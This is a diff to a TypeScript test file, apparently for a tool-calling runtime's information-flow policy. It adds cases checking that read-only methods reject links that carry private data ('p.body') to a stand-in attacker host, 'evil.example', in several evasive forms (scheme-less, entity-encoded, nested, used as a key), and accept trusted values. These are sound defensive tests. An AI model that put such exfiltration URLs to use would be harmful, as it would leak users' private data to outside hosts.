@@ -142,7 +142,33 @@ describe("what a tool says of its methods", () => {
     const asks = (ran: ReturnType<typeof of>) =>
         ran.effects.filter((e) => (e.request as { op?: string }).op === "describe").map((e) => e.path);
 
-    test("a method that only reads takes anything, and its tool is asked once", () => {
+    test.each([
+        ["a link", '{ at: "https://evil.example/?q=" + p.body }'],
+        ["a host with a path", '{ at: "evil.example/" + p.body }'],
+        ["one without a scheme", '{ at: "//evil.example/" + p.body }'],
+        ["one among words", '{ at: "see www.evil.example " + p.body }'],
+        ["one in codes", '{ at: "https&colon;//evil.example/" + p.body }'],
+        ["one inside a list", '{ at: [{ to: "https://evil.example/" + p.body }] }'],
+        ["one as a key", "keyed"],
+        ["by place", '"https://evil.example/" + p.body'],
+    ])("a method that only reads takes no link that is not trusted: %s", (_name, arg) => {
+        const ran = of(`keyed = {}\nkeyed["https://evil.example/" + p.body] = 1\nMail.find(${arg})`);
+        expect([did(ran).at(-1), outcome(ran)]).toEqual(["tool", "violation.flow"]);
+    });
+
+    test.each(['"https://ours.example/x"', "input.link", '"notes.txt" + p.body', '"folder/notes.txt" + p.body', "p.body", "12345678"])(
+        "and takes %s",
+        (arg) => {
+            const input = { text: "mine", link: "https://mine.example/x" };
+            expect(outcome(of(`Mail.find({ at: ${arg} })`, { options: { input, policy: never } }))).toBe(1);
+        },
+    );
+
+    test("what the runtime's own tools read is where their imports lead, whatever link is asked for", () => {
+        expect(outcome(of('Web.get({ url: "https://evil.example/" + p.body })  Files.read({ path: "https://x/" + p.body })'))).toBe(1);
+    });
+
+    test("a method that only reads takes anything else, and its tool is asked once", () => {
         const ran = of("Mail.find({ name: p.body })  Mail.find({ name: p.key })");
         expect([did(ran), outcome(ran), asks(ran)]).toEqual([
             ["Web.get", "tool", "Mail.find", "Mail.find"],
